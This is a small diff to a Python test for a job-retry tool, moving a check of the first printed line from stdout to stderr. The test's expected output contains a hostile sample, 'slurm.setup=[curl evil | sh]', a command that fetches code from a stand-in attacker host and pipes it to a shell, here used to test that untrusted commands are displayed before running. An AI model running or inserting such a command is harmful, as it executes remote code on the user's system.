@@ -75,7 +75,7 @@ def test_trusted_retry_prints_command_and_folder_first(runs, commands, capsys) -
     folder = make_sweep(runs, ATTACKER)
     assert retry(folder, "--trust") == 0
     assert commands == [(["-m", SETUP, "seed=1,2"], str(runs))]
-    first = capsys.readouterr().out.splitlines()[0]
+    first = capsys.readouterr().err.splitlines()[0]
     assert str(runs) in first
     assert "'slurm.setup=[curl evil | sh]'" in first
 
